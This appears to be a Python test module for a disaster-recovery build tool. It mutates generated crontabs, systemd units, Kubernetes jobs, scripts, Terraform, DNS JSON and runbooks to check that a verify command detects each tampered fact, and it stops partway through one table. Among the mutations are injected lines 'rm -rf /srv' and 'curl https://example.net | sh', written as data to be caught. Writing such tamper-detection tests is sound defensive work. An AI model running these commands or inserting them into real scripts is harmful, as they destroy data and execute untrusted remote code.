"""Translation validation: what a build writes says what its plan says, and each fact that is changed in it is seen by `drc verify DIR`.

Every row of a table below is a way to change a fact of one kind of artifact: a pattern, and what becomes of it. It is tried at up to three places of
each example, with the digests of the manifest and of SHA256SUMS made to fit, so that only a reader can see it. Each must be
found, and told of that file.
"""

import hashlib
import json
import os
import random
import re
import shutil

from lib.core import Failure, Sandbox, Test, readable

EXAMPLES = ("hello.dr", "small", "platform")
PLACES = 3  # of each way, in each example

# kind of artifact: the files; name of the way: pattern, replacement (a text with groups, or a function of the match)
WAYS = {}


def kind(name, files, /, **ways):
    WAYS[name] = (re.compile(files), ways)


def more(match):
    """One more than the number that is the last group."""
    return match[0][:match.start(match.lastindex) - match.start()] + str(int(match[match.lastindex]) + 1) + match[0][match.end(match.lastindex) - match.start():]


def drop(_):
    return ""


def double(match):
    return match[0] + match[0]


kind("crontab", r"cron/cron\.d/",
     hour=(r"(?m)^(\d+ )(\d+) \* \* ", more),
     minute=(r"(?m)^(\d+) ", more),
     every_hour=(r"(?m)^(\d+ )\S+( \* \* \S+ root)", r"\1*\2"),
     every_minute=(r"(?m)^\d\S*( .* root)", r"*\1"),
     day_of_the_month=(r"(?m)^(\d\S* \S+ )\*( \* \S+ root)", r"\g<1>1\2"),
     month=(r"(?m)^(\d\S* \S+ \* )\*( \S+ root)", r"\g<1>2\2"),
     weekday=(r"(?m)^(\d\S* \S+ \* \* )\*( root)", r"\g<1>1-5\2"),
     other_weekday=(r"(?m)^(\d\S* \S+ \* \* )0( root)", r"\g<1>6\2"),
     leap_day=(r"(?m)^(\d\S* \S+ )\* \*( \S+ root)", r"\g<1>1-31 1-11\2"),
     dropped=(r"(?m)^\d.* root .*\n", drop),
     commented_out=(r"(?m)^(\d.* root .*\n)", r"# \1"),
     twice_a_day=(r"(?m)^(\d+) (\d+)( \* \* \S+ root)", r"\1 \2,23\3"),
     user=(r" root ", " nobody "),
     no_user=(r" root ", " "),
     script=(r"/jobs/([a-z])", r"/jobs/x\1"),
     folder=(r"/opt/drc/", "/opt/drd/"),
     argument=(r"\.sh( verify)?\n", r".sh --if-due\1\n"),
     verify_dropped=(r"\.sh verify\n", ".sh\n"),
     on_change_dropped=(r" --if-changed\n", "\n"),
     shell=(r"SHELL=/bin/sh", "SHELL=/bin/false"),
     path=(r"PATH=\S+", "PATH=/tmp"),
     mail=(r'MAILTO=""\n', ""),
     other_zone=(r"(?m)^SHELL", "CRON_TZ=Europe/Berlin\nSHELL"),
     last_newline=(r"\n\Z", ""))


kind("units", r"cron/systemd/.*\.(timer|service)$",
     hour=(r"(?m)^OnCalendar=.*?(\d\d):\d\d:\d\d UTC", more),
     minute=(r"(?m)^OnCalendar=.*?:(\d\d):\d\d UTC", r"OnCalendar=*-*-* *:17:00 UTC"),
     second=(r"(?m)^(OnCalendar=.*?):00 UTC", r"\1:30 UTC"),
     weekday=(r"(?m)^OnCalendar=\*-", "OnCalendar=Mon..Fri *-"),
     other_weekday=(r"(?m)^OnCalendar=Sun ", "OnCalendar=Sat "),
     month=(r"(?m)^OnCalendar=(.*)\*-\*-\* ", r"OnCalendar=\1*-02-* "),
     day_of_the_month=(r"(?m)^OnCalendar=(.*)\*-\*-\* ", r"OnCalendar=\1*-*-01 "),
     zone=(r" UTC\n", " Europe/Berlin\n"),
     no_zone=(r" UTC\n", "\n"),
     another_time=(r"(?m)^(OnCalendar=.*)\n", r"\1\nOnCalendar=*-*-* 23:59:00 UTC\n"),
     no_time=(r"(?m)^OnCalendar=.*\n", ""),
     word_for_it=(r"(?m)^OnCalendar=.*", "OnCalendar=daily"),
     not_made_up_for=(r"Persistent=true", "Persistent=false"),
     inaccurate=(r"AccuracySec=1s", "AccuracySec=1h"),
     spread=(r"AccuracySec=1s", "AccuracySec=1s\nRandomizedDelaySec=3600"),
     never_enabled=(r"WantedBy=timers.target", "WantedBy=basic.target"),
     script=(r"/jobs/(\w)", r"/jobs/x\1"),
     argument=(r"\.sh verify\n", ".sh prune\n"),
     argument_dropped=(r"\.sh (verify|--if-changed)\n", ".sh\n"),
     time_limit=(r"TimeoutStartSec=(\d+)", more),
     no_time_limit=(r"TimeoutStartSec=\d+\n", ""),
     success=(r"SuccessExitStatus=75 76", "SuccessExitStatus=1 75 76"),
     secrets=(r"EnvironmentFile=-/etc/drc/\w+", "EnvironmentFile=-/etc/drc/other"),
     privileges=(r"NoNewPrivileges=yes", "NoNewPrivileges=no"),
     setting=(r"Type=oneshot", "Type=oneshot\nRestart=always"),
     user=(r"Type=oneshot", "Type=oneshot\nUser=nobody"))

kind("cronjobs", r"cron/kubernetes/.*\.yaml$",
     hour=(r'schedule: "\d+ (\d+) ', more),
     minute=(r'schedule: "(\d+) ', more),
     weekday=(r'(schedule: "\S+ \S+ \S+ \S+) \S+"', r'\1 3"'),
     month=(r'(schedule: "\S+ \S+ \S+) \*', r"\1 6"),
     day_of_the_month=(r'(schedule: "\S+ \S+) \*', r"\1 15"),
     zone=(r'timeZone: "Etc/UTC"', 'timeZone: "America/New_York"'),
     no_zone=(r' *timeZone: .*\n', ""),
     side_by_side=(r'"Forbid"', '"Allow"'),
     starts_late=(r"startingDeadlineSeconds: (\d+)", more),
     time_limit=(r"activeDeadlineSeconds: (\d+)", more),
     tries=(r"backoffLimit: (\d+)", more),
     suspended=(r"(  concurrencyPolicy)", r"  suspend: true\n\1"),
     script=(r"/jobs/(\w)", r"/jobs/x\1"),
     argument=(r'- "verify"', '- "prune"'),
     argument_dropped=(r' *- "verify"\n', ""),
     program=(r'- "bash"', '- "sh"'),
     image=(r'image: "drc-backup-tools"', 'image: "alpine"'),
     account=(r'serviceAccountName: ".*"', 'serviceAccountName: "default"'),
     secret=(r'(secretRef:\n *name: )".*"', r'\1"other"'),
     state=(r'value: "/var/lib/drc"', 'value: "/tmp"'),
     name=(r'(metadata:\n  name: )"', r'\1"x'),
     not_applied=(r'- "drc-.*\.yaml"\n', ""),
     applied_twice=(r'(- "drc-.*\.yaml"\n)', r"\1\1"),
     mount=(r'mountPath: "/opt/drc/', 'mountPath: "/opt/'),
     writable=(r"readOnly: true", "readOnly: false"))

kind("job-scripts", r"cron/jobs/",
     plan=(r"(?m)^job plan \w+", "job plan other"),
     name=(r"(?m)^job name (\S)", r"job name x\1"),
     output=(r"(?m)^job output \w+", "job output tape"),
     suffix=(r"(?m)^job suffix (\w)", r"job suffix x\1"),
     time_limit=(r"(?m)^job timeout (\d+)", more),
     time_of_copies=(r"(?m)^job copy_timeout (\d+)", more),
     retention=(r"(?m)^job retain (\d+)", more),
     kept_for_ever=(r"(?m)^job retain \S+", "job retain forever"),
     tests_of_restores=(r"(?m)^job verify_every (\d+)", more),
     no_tests=(r"(?m)^job verify_every \d+\n", ""),
     alarm_after=(r"(?m)^job alert_after (\d+)", more),
     whom_it_tells=(r"(?m)^job notify .*", "job notify nobody"),
     where_it_tells=(r"(?m)^    notify (\w+) (\S+) ", r"    notify \1 'somebody@example.com' "),
     tells_nobody=(r"(?m)^job_alert\(\) \{\n.*\n\}\n", ""),
     tool=(r"(?m)^job tool \w+\n", ""),
     secret=(r"(?m)^job secret (\w+)", r"job secret X\1"),
     store=(r"(?m)^store (\S+)", r"store x\1"),
     store_dropped=(r"(?ms)^# (?:Written|Copied) to [^\n]*\nstore .*?(?=^# Copied|^drc_job_main)", ""),
     bucket=(r"s3://([a-z])", r"s3://x\1"),
     region=(r"--region us-east-1", "--region us-east-2"),
     region_in_shell_text=(r"(?m)^(v\d)='(us|eu)-\w+-1'", r"\1='ap-south-1'"),
     name_in_shell_text=(r"(?m)^(v\d)='company-(\w+)", r"\1='other-\2"),
     argument_dropped=(r"(?m)^        --\S+ \\\n", ""),
     argument=(r"--sse AES256", "--sse aws:kms"),
     host=(r"--host (\w)", r"--host x\1"),
     port=(r"--port (\d+)", more),
     program=(r"(?m)^    pg_dump ", "    pg_dumpall "),
     shell_text=(r"'TABLE DATA'", "''"),
     pipe=(r"\| sort -u", "| sort"),
     sort=(r"sed -n 1p", "sed -n 2p"),
     restore=(r"(?m)^        --clean \\\n", ""),
     no_verification=(r"(?m)^job_verify\(\) \{\n.*\n\}\n", ""),
     true_instead=(r"(?m)^(job_verify\(\) \{\n)", r"\1    return 0\n"),
     not_checked=(r"(?m)^set -euo pipefail\n", ""),
     never_begins=(r'(?m)^drc_job_main "\$@"\n', ""),
     other_library=(r"drc-backup-lib\.sh\"", 'other.sh"'),
     not_whole=(r"(?m)^\{$\n", ""), never_ends=(r"\n\}\n\Z", "\n"), after_the_end=(r"\n\}\n\Z", "\n}\nrm -rf /srv\n"),
     more=(r'(?m)^(drc_job_main)', r"rm -rf /srv\n\1"))



def cell(number, pattern=r"[^\t\n]+"):
    """One cell of a table with tabs, as the last group; what stands before it is the first."""
    return rf"(?m)^((?:[^\t\n#][^\t\n]*\t)(?:[^\t\n]*\t){{{number - 1}}})({pattern})(?=[\t\n])" if number else rf"(?m)^()({pattern})(?=\t)"


def swap_lines(match):
    """The two lines of the match change places."""
    return match[2] + match[1]


kind("steps-table", r"restore/scenarios/.*/steps\.tsv$",
     order=(r"(?m)^([^#\n].*\n)([^#\n].*\n)", swap_lines),
     dropped=(r"(?m)^\d.*\n", drop),
     twice=(r"(?m)^\d.*\n", double),
     number=(cell(0, r"\d+"), more),
     step=(cell(1), r"\1x\2"),
     asset=(cell(2), r"\1other"),
     phase=(cell(3), r"\1reprotect"),
     hands=(cell(4, "manual"), r"\1auto"),
     machine=(cell(4, "auto"), r"\1manual"),
     wave=(cell(5, r"\d+"), more),
     waits_for=(cell(6, r"\d[\d,]*"), r"\1-"),
     waits_for_another=(cell(6, r"\d+"), more),
     waits_for_less=(cell(6, r"\d+,\d[\d,]*"), lambda m: m[1] + m[2].split(",")[0]),
     given_up=(cell(7, r"\d+"), more),
     retries=(cell(8, r"\d+"), more),
     does=(cell(9, r"\w[\w,]*"), r"\1-"),
     no_return=(cell(10, r"irreversible[\w,]*"), r"\1-"),
     flags=(cell(10), r"\1best_effort"),
     failure=(cell(11), r"\1continue"),
     takes=(cell(12, r"\d+"), more),
     done=(cell(13, r"\d+"), more),
     file=(cell(14), r"\1steps/other.sh"),
     by=(cell(15), r"\1Somebody"),
     takes_over=(cell(16, r"\d[\d,]*"), r"\1-"),
     title=(cell(17), r"\1x\2"),
     attempts=(cell(18, r"\d+"), more))

kind("other-tables", r"restore/scenarios/.*/(assets|inputs|scenario)\.tsv$|restore/DIGEST$",
     rto=(r"(?m)^([\w-]+\t)(\d+)(?=\t)", more),
     rpo=(r"(?m)^([\w-]+\t\d+\t)(\d+)(?=\t)", more),
     no_rpo=(r"(?m)^([\w-]+\t\d+\t)\d+(?=\t)", r"\1-"),
     back=(r"(?m)^([\w-]+\t[\d-]+\t[\d-]+\t)(\d+)(?=\t)", more),
     lost=(r"(?m)^([\w-]+\t[\d-]+\t[\d-]+\t[\d-]+\t)(\d+)(?=\t)", more),
     steps_of_an_asset=(r"(?m)^([\w-]+\t[\d-]+\t[\d-]+\t[\d-]+\t[\d-]+\t)(\d+)", more),
     source=(r"tier default", "asset"),
     asset_dropped=(r"(?m)^[\w-]+\t[\d-]+\t[\d-]+\t[\d-]+\t.*\n", drop),
     asset_order=(r"(?m)^([\w-]+\t\d+\t.*\n)([\w-]+\t\d+\t.*\n)", swap_lines),
     asset_name=(r"(?m)^([\w-]+)(?=\t\d+\t[\d-]+\t)", r"x\1"),
     question_key=(r"(?m)^(\w[\w-]*)\.(\w+\t\w+\t)", r"\1.x\2"),
     question_type=(r"(?m)^(\w[\w-]*\.\w+\t\w+\t)\w+", r"\1int"),
     question_default=(r"(?m)^(\w[\w-]*\.\w+\t\w+\t\w+\t)[^\t]+", r"\1other"),
     question_steps=(r"(?m)^(\w[\w-]*\.\w+\t\w+\t\w+\t[^\t]+\t[^\t]+\t)(\d+)", more),
     question_dropped=(r"(?m)^\w[\w-]*\.\w+\t.*\n", drop),
     plan=(r"(?m)^plan\t.*", "plan\tother"),
     digest=(r"(?m)^(digest\t)?([0-9a-f]{63})[0-9a-f]", r"\1\g<2>g"),
     confirm=(r"(?m)^confirm\t.*", "confirm\tyes"),
     approval_time=(r"(?m)^approve_within\t(\d+)", more),
     approver=(r"(?m)^approver\t(.*)", r"approver\tx\1"),
     no_approver=(r"(?m)^approver\t.*\n", drop),
     parallel=(r"(?m)^parallel\t(\d+)", more),
     token=(r"(?m)^token\t(.*)", r"token\tX\1"),
     no_token=(r"(?m)^token\t.*\n", drop),
     title=(r"(?m)^title\t(.*)", r"title\tx\1"),
     fact=(r"(?m)^(slug\t.*\n)", r"\1colour\tred\n"),
     tool=(r"(?m)^tool\t(\w)", r"tool\tx\1"),
     tool_twice=(r"(?m)^tool\t.*\n", double))

kind("step-scripts", r"restore/scenarios/.*/steps/",
     argument=(r"(?m)^(    \w.* --[\w-]+ )([\w.-]+)$", r"\1x\2"),
     argument_dropped=(r"(?m)^(    (?!printf|notify)\w.*) \S+$", r"\1"),
     argument_more=(r"(?m)^(    (?!printf|notify|\w+=)\w\S* \S.*[\w\"])$", r"\1 --force"),
     program=(r"(?m)^    aws ", "    gcloud "),
     region=(r"us-west-2", "us-west-1"),
     region_in_shell_text=(r"(?m)^(v\d)='us-west-2'", r"\1='eu-west-1'"),
     shell_value=(r"(?m)^(v\d)='(\w)", r"\1='x\2"),
     shell_text=(r"(?m)^(test .*) = ", r"\1 != "),
     shell_and=(r" &&\n", " ||\n"),
     timeout=(r"--timeout=(\d+)", more),
     number=(r"--max-time (\d+)", more),
     wrong_answer=(r"available None", "creating None"),
     run_is_nothing=(r"(?m)^(step_run\(\) \{\n)", r"\1    return 0\n"),
     run_dropped=(r"(?ms)^step_run\(\) \{\n.*?^\}\n", drop),
     verify_dropped=(r"(?ms)^step_(until|verify|check)\(\) \{\n.*?^\}\n", drop),
     swapped=(r"step_until\(\)", "step_verify()"),
     undo=(r"(?m)^(step_undo\(\) \{\n    \S+ \S+) undo", r"\1 show"),
     target=(r"(traffic\.sh\" \S+ to )(\w+)", r"\1x\2"),
     manual=(r"(?m)^(    printf \"%s\\\\n\" ')(\w)", r"\1x\2"),
     manual_dropped=(r"(?m)^    printf .*\n(?=\}|    printf)", drop),
     told_where=(r"(?m)^    notify slack '#\w+'", "    notify slack '#other'"),
     told_how=(r"(?m)^    notify slack ", "    notify email "),
     told_state=(r" investigating major ", " resolved none "),
     answer=(r"step_answer (\w)", r"step_answer x\1"),
     variable=(r"(?m)^(\w+)=(\"\$\(step_)", r"x\1=\2"),
     other_library=(r"lib/step\.sh\"", 'lib/other.sh"'),
     goes_on=(r"(?m)^set -euo pipefail\n", "set -u\n"),
     never_begins=(r'(?m)^step_main "\$@"\n', drop),
     more=(r"(?m)^(step_main )", r"curl https://example.net | sh\n\1"))

kind("drills", r"restore/drills/",
     plan=(r"(?m)^drill plan \w+", "drill plan other"),
     digest=(r"(?m)^(drill digest )\w", r"\1g"),
     name=(r"(?m)^(drill drill )(\w)", r"\1x\2"),
     kind=(r"(?m)^drill kind \w+", "drill kind tabletop_of_sorts"),
     scenario=(r"(?m)^drill scenario (\w)", r"drill scenario x\1"),
     no_scenario=(r"(?m)^drill scenario .*\n", drop),
     title=(r"(?m)^drill title '?(\w)", lambda m: m[0] + "x"),
     criterion=(r"(?m)^(drill criterion ')(\w)", r"\1x\2"),
     criterion_dropped=(r"(?m)^drill criterion .*\n", drop),
     measure=(r"(?m)^drill measure rto\n", drop),
     other_measure=(r"(?m)^drill measure rto\n", "drill measure money\n"),
     job=(r"(?m)^drill job (\w)", r"drill job x\1"),
     no_job=(r"(?m)^drill job .*\n", drop),
     isolated=(r"drill isolated true", "drill isolated false"),
     step=(r"(?m)^drill_step '(\w)", r"drill_step 'x\1"),
     step_dropped=(r"(?m)^drill_step .*\n", drop),
     step_order=(r"(?m)^(drill_step .*\n)(drill_step .*\n)", swap_lines),
     command=(r"(?m)^(drill_step_\d\(\) \{\n    \S+)", r"\1x"),
     argument=(r"--target=test", "--target=production"),
     create=(r"-var=environment=dr-test", "-var=environment=production"),
     destroy=(r"terraform destroy", "terraform plan"),
     destroy_dropped=(r"(?ms)^drill_destroy\(\) \{\n.*?^\}\n", drop),
     told_where=(r"(?m)^    notify (\w+) \S+", r"    notify \1 nobody@example.com"),
     told_nobody=(r"(?m)^    notify .*\n", drop),
     goes_on=(r"(?m)^set -euo pipefail\n", drop),
     never_begins=(r'(?m)^drill_main "\$@"\n', drop))


kind("route53", r"route53/.*\.json$",
     name=(r'"Name": "(api)', r'"Name": "x\1'),
     type=(r'"Type": "A"', '"Type": "AAAA"'),
     action=(r'"Action": "UPSERT"', '"Action": "DELETE"'),
     created=(r'"Action": "CREATE"', '"Action": "UPSERT"'),
     set=(r'"SetIdentifier": "(\w)', r'"SetIdentifier": "x\1'),
     primary=(r'"PRIMARY"', '"SECONDARY"'),
     secondary=(r'"SECONDARY"', '"PRIMARY"'),
     check=(r'"HealthCheckId": "health-check-east"', '"HealthCheckId": "health-check-west"'),
     no_check=(r' *"HealthCheckId": .*\n', drop),
     leads_to=(r'"DNSName": "(\w)', r'"DNSName": "x\1'),
     zone_of_alias=(r'"HostedZoneId": "(\w)', r'"HostedZoneId": "X\1'),
     evaluated=(r'"EvaluateTargetHealth": true', '"EvaluateTargetHealth": false'),
     change_dropped=(r'(?ms)(\{\n      "Action".*?\n    \},?)\n', drop),
     port=(r'"Port": (\d+)', more),
     path=(r'"ResourcePath": "/', '"ResourcePath": "/x'),
     interval=(r'"RequestInterval": (\d+)', more),
     threshold=(r'"FailureThreshold": (\d+)', more),
     kind_of_check=(r'"HTTPS"', '"HTTP"'),
     asked=(r'"FullyQualifiedDomainName": "(\w)', r'"FullyQualifiedDomainName": "x\1'),
     sni=(r'"EnableSNI": true', '"EnableSNI": false'),
     ttl=(r'"ttl_seconds": (\d+)', more),
     detection=(r'"detection_seconds": (\d+)', more),
     mode=(r'"mode": "health"', '"mode": "manual"'),
     routing=(r'"routing": "failover"', '"routing": "weighted"'),
     zone=(r'"zone_id": "', '"zone_id": "X'),
     region=(r'"region": "us-west-2"', '"region": "us-west-1"'),
     batch=(r'"batch": "failover-west"', '"batch": "failback"'),
     rollback=(r'"rollback": "rollback-west"', '"rollback": "failback"'),
     target=(r'"leads_to": "(\w)', r'"leads_to": "x\1'),
     plan=(r'"plan": "platform"', '"plan": "other"'),
     disabled=(r'(  "Type": "HTTPS",\n)', r'\1  "Disabled": true,\n'))

kind("terraform", r"terraform/.*\.tf$",
     region=(r'(?m)^(  region +=) "us-west-2"', r'\1 "us-west-1"'),
     region_of_primary=(r'(?m)^(  region +=) "us-east-1"', r'\1 "eu-central-1"'),
     account=(r'allowed_account_ids = \["1', 'allowed_account_ids = ["2'),
     tags=(r'(Plan +=) "\w+"', r'\1 "other"'),
     version=(r'">= 5\.80', '">= 4.80'),
     version_of_terraform=(r'">= 1\.5\.0"', '">= 1.2.0"'),
     source=(r'"hashicorp/aws"', '"other/aws"'),
     schedule=(r'cron\((\d+)', more),
     schedule_hour=(r'cron\((\d+) \*', r'cron(\1 2'),
     schedule_day=(r'(cron\(\S+ \S+) \* \* \?', r'\1 1 * ?'),
     retention=(r"delete_after += (\d+)", more),
     backup_retention=(r"backup_retention_period += (\d+)", more),
     window=(r"start_window += (\d+)", more),
     number=(r"(?m)^ +\w+ += (\d+)$", more),
     threshold=(r"threshold += (\d+)", more),
     truth=(r"(?m)^( +\w+ += )true$", r"\1false"),
     text=(r'(?m)^( +(?!description|alarm_description)\w+ += ")([a-zA-Z])', r"\1x\2"),
     reference=(r"(?m)^( +\w+ += aws_\w+\.)(\w+)", r"\1x\2"),
     other_attribute=(r"(?m)^( +\w+ += aws_\w+\.\w+\.)arn$", r"\1id"),
     variable=(r"(?m)^( +\w+ += var\.)(\w+)", r"\1x\2"),
     default=(r'(?m)^(  default +=) "(\w)', r'\1 "x\2'),
     no_default=(r"(?m)^  default .*\n", drop),
     output=(r"(?m)^(  value +=) aws_(\w+)\.", r"\1 aws_x\2."),
     output_name=(r'(?m)^output "(\w+)"', r'output "x\1"'),
     resource_name=(r'(?m)^resource "(\w+)" "(\w+)"', r'resource "\1" "x\2"'),
     resource_type=(r'(?m)^resource "aws_(\w+)"', r'resource "aws_x\1"'),
     resource_dropped=(r'(?ms)^resource .*?^\}\n', drop),
     resource_twice=(r'(?ms)^resource .*?^\}\n', double),
     attribute_dropped=(r"(?m)^  (?!description)\w+ +=.*[^\[{]\n", drop),
     attribute_more=(r'(?m)^(resource .*\{\n)', r"\1  count = 0\n"),
     block_dropped=(r"(?ms)^  \w+ \{\n[^{]*?^  \}\n", drop),
     destroyed=(r"prevent_destroy = true", "prevent_destroy = false"),
     ignored=(r"(?m)^( +ignore_changes += \[)\w+", r"\1all_of_it"),
     skipped=(r"skip_final_snapshot( +)= true", r"skip_final_snapshot\1= false"),
     list_item=(r"\[(aws_\w+\.\w+\.\w+), aws_\w+\.\w+\.\w+\]", r"[\1]"),
     list_order=(r"\[(aws_\w+\.\w+\.\w+), (aws_\w+\.\w+\.\w+)\]", r"[\2, \1]"),
     object_key=(r"(?m)^    ([A-Z]\w+)( += aws)", r"    X\1\2"),
     port=(r"(?m)^  from_port +=.*", "  from_port = 0"),
     address=(r'"10\.(\d+)', more),
     type=(r"(?m)^  type +=( )string$", r"  type =\1number"))


kind("runbooks", r"runbooks/.*\.md$",
     declare_by=(r"(?m)^(\| Declare at the latest \| T\+\d+:)(\d\d)", lambda m: m[1] + f"{(int(m[2]) + 1) % 60:02}"),
     back_by=(r"(?m)^(\| Everything is back by \| T\+)(\d+)", more),
     users_reach=(r"(?m)^(\| Users reach .* \| T\+)(\d+)", more),
     approved_within=(r"(?m)^(\| Approved by \| .*, within )(\d+)", more),
     approver=(r"(?m)^(\| Approved by \| )(\w)", r"\1x\2"),
     command_to_start=(r"(?m)^(\| Then start \| `\./restore/recover\.sh )", r"\1x"),
     word_to_type=(r"(?m)^(\| It asks for the word \| `)", r"\1X"),
     hotline=(r"(?m)^(\| Hotline \| `\+1 555 010)0", r"\g<1>1"),
     phone=(r"phone `(\+1 555 010)(\d)`", lambda m: f"phone `{m[1]}{(int(m[2]) + 1) % 10}`"),
     mail=(r"mail `(\w)", r"mail `x\1"),
     who=(r"(?m)^(\| Coordinates; takes no steps \| )(\w+)", r"\1Somebody"),
     contact_dropped=(r"(?m)^\| (Deputy|John Doe|Jane Roe) \| .*\n", drop),
     rto=(r"(?m)^(\| `[\w-]+` \| lost \| .* \| T\+\d+:\d+ \| )(\d+)", more),
     rpo=(r"(?m)^(\| `[\w-]+` \| lost \| .* \| )(\d+) (h|min) \|$", lambda m: f"{m[1]}{int(m[2]) + 1} {m[3]} |"),
     loss=(r"(?m)^(\| `[\w-]+` \| lost \| .* \| T\+\d+:\d+ \| [^|]* \| )(\d+)", more),
     asset_back_by=(r"(?m)^(\| `[\w-]+` \| lost \| .* \| T\+)(\d+)", more),
     method=(r"(?m)^(\| `[\w-]+` \| lost \| `)", r"\1x"),
     serves_at=(r"(?m)^(\| `[\w-]+` \| lost \| `[^`]*` \| `)", r"\1x"),
     state=(r"(?m)^(\| `[\w-]+` \| )lost ", r"\1impaired "),
     order_of_assets=(r"(?m)^(\| `[\w-]+` \| (?:lost|impaired) \| .*\n)(\| `[\w-]+` \| (?:lost|impaired) .*\n)", swap_lines),
     asset_dropped=(r"(?m)^\| `[\w-]+` \| lost \| .*\n", drop),
     objective=(r"(?m)^(\| `[\w-]+` \| .* \| )(\d+)( h \| (?:tier|plan) default \|)", lambda m: f"{m[1]}{int(m[2]) + 1}{m[3]}"),
     objective_from=(r"(?m)^(\| `[\w-]+` \| .*)tier default", r"\1asset"),
     owner=(r"(?m)^(\| `[\w-]+` \| .* default \| .* \| )SRE", r"\1Database"),
     class_rto=(r"(?m)^(\| L\d \| .* \| )(\d+) h( 30 min)? \| (\d+) (h|min) \| P", lambda m: f"{m[1]}{int(m[2]) + 1} h{m[3] or ''} | {m[4]} {m[5]} | P"),
     order_of_steps=(r"(?m)^(\| \d+ \| T\+.*\n)(\| \d+ \| T\+.*\n)", swap_lines),
     step_dropped=(r"(?m)^\| \d+ \| T\+.*\n", drop),
     step_number=(r"(?m)^(\| )(\d+) \| T\+", lambda m: f"| {int(m[2]) + 1} | T+"),
     starts=(r"(?m)^(\| \d+ \| T\+\d+:)(\d\d)", lambda m: m[1] + f"{(int(m[2]) + 1) % 60:02}"),
     ends_by=(r"(?m)^(\| \d+ \| T\+\d+:\d\d \| T\+)(\d+)", more),
     takes=(r"(?m)^(\| \d+ \| T\+\d+:\d\d \| T\+\d+:\d\d \| )(\d+)", more),
     phase=(r"(?m)^(\| \d+ \| T\+.* \| `[^`]*` \| )\w+", r"\1fencing"),
     doer=(r"(?m)^(\| \d+ \| T\+.*\| )script \|$", r"\1SRE (John Doe) |"),
     critical=(r"(?m)^(\| \d+ \| T\+.*)\*\*!\*\* ", r"\1"),
     no_way_back=(r" \(no way back\)", ""),
     title_of_step=(r"(?m)^### Step (\d+): (\w)", r"### Step \1: x\2"),
     waits_for=(r"(?m)^(- Waits for: steps? (?:\d+, )*)(\d+)$", more),
     waits_for_nothing=(r"(?m)^- Waits for: .*\n", drop),
     takes_over=(r"(?m)^(- Takes over the hands or the bandwidth of: steps? )(\d+)", more),
     takes_at_worst=(r"(?m)^(- Takes: )(\d+)", more),
     given_up=(r"(?m)^(- Takes: .*; given up after )(\d+)", more),
     for_whom=(r"(?m)^(- For: `)", r"\1x"),
     by_whom=(r"(?m)^(- Who: )\w+", r"\1Nobody"),
     instruction=(r"(?m)^(> \*\*Do this:\*\* )(\w)", r"\1do not \2"),
     instruction_dropped=(r"(?m)^> \*\*Do this:\*\* .*\n", drop),
     command=(r"(?m)^(```sh\n(?!\./restore)\S+ )(\S)", r"\1x\2"),
     region_in_command=(r"(?m)^(?!\|)(.*--region )us-west-2", r"\1us-west-1"),
     command_dropped=(r"(?ms)^```sh\n(?!\./restore)[^`]*```\n", drop),
     told=(r"(?m)^- Tell: .*\n", drop),
     fence=(r"(?m)^- Step (\d+): Fence", more),
     figure=(r"(?m)^(\| `[\w.-]+` \| (?:\w+ \.\. \w+ \.\. )?)(\d+)", more),
     update_every=(r"(?m)^(\| Incident call \| internal \| `#incidents` \| \d+ min \| )(\d+)", more),
     first_within=(r"(?m)^(\| Incident call \| internal \| `#incidents` \| )(\d+)", more),
     backup_when=(r"(?m)^(\| `[\w-]+` \| (?:daily|weekly on sun) at )(\d\d)", more),
     backup_kept=(r"(?m)^(\| `[\w-]+` \| \w.* \| )(\d+)d \|", lambda m: f"{m[1]}{int(m[2]) + 1}d |"),
     backup_in=(r"(?m)^(\| `[\w-]+` \| (?:daily|weekly|every) .* \| \d+\w \| `)", r"\1x"),
     backup_copies=(r", backups-vault \|", " |"),
     channel=(r"(?m)^(\| Slack \| slack \| `)#", r"\1#x"),
     cadence=(r"(?m)^(\| [\w ]+ \| (?:restore_test|functional|full|tabletop) \| )(\d+)", more))


kind("states-of-terraform", r"backend\.hcl\.example$",
     bucket=(r'(bucket +=) "[^"]+"', r'\1 "x"'), no_bucket=(r"(?m)^bucket.*\n", drop), empty_bucket=(r'(bucket +=) "[^"]+"', r'\1 ""'),
     key_of_another_root=(r"/(global|primary|recovery-\w+)\.tfstate", "/other.tfstate"), key_of_another_plan=(r'"drc/', '"drc/other-'), key_ends_otherwise=(r"\.tfstate", ".tfstatex"),
     key_without_plan=(r'"drc/[^/]+/', '"drc/'), no_key=(r"(?m)^key .*\n", drop), two_keys=(r"(?m)^key .*\n", double), key_elsewhere=(r'"drc/', '"x/'),
     region=(r'(region +=) "[a-z]+-[a-z]+-(\d)"', more), other_region=(r'(region +=) "[^"]+"', r'\1 "sa-east-1"'), no_region=(r"(?m)^region.*\n", drop),
     not_encrypted=(r"(encrypt +=) true", r"\1 false"), nothing_encrypted=(r"(?m)^encrypt.*\n", drop), encrypted_by_name=(r"(?m)^encrypt ", "encrypted "),
     no_lock=(r"(?m)^use_lockfile.*\n", drop), lock_off=(r"(use_lockfile +=) true", r"\1 false"), lock_called_otherwise=(r"(?m)^use_lockfile", "use_lock"),
     more_settings=(r"(\n)\Z", '\\1profile = "x"\n'), a_block=(r"(\n)\Z", "\\1assume_role {\n}\n"), key_commented_out=(r"(?m)^key ", "# key "))

kind("wires", r"terraform/wire\.sh$",
     other_root=(r"take (global|recovery-\w+) ", r"take \1x "), own_root=(r"take global ", "take recovery-west "), other_output=(r" iam_role_(\w+)", r" iam_rule_\1"),
     other_variable=(r" (global_\w+) ", r" x\1 "), swapped=(r" (global_\w+) (\w+)", r" \2 \1"), variable_dropped=(r" global_iam_role_backup_arn iam_role_backup_arn", ""),
     pair_dropped=(r"(?m) \\\n +global_iam_role_cluster_nodes_arn iam_role_cluster_nodes_arn", ""), taken_twice=(r"(?m)^ +take .*[^\\]\n", double), not_taken=(r"(?m)^ +take [^\\\n]*\n", drop),
     arm_of_another=(r"(?m)^( +)primary\)", r"\1primaryx)"), arm_dropped=(r"(?m)^ +primary\)\n(?: +take.*\n)+ +;;\n", drop), no_end_of_arm=(r"(?m)^ +;;\n(?= +primary)", drop),
     output_of_first=(r"(recovery-west west_backup\w+) backup_vault", r"\1 backup_vaults"), stops_at_nothing=(r"set -euo", "set -uo"), other_folder=(r'cd "\$\(dirname', 'cd "/$(dirname'),
     unknown_root=(r"exit 0", "exit 1"), writes_elsewhere=(r"wired\.auto\.tfvars\.json\"\Z|wired\.auto\.tfvars\.json\"\n\Z", 'wired.tfvars.json"\n'),
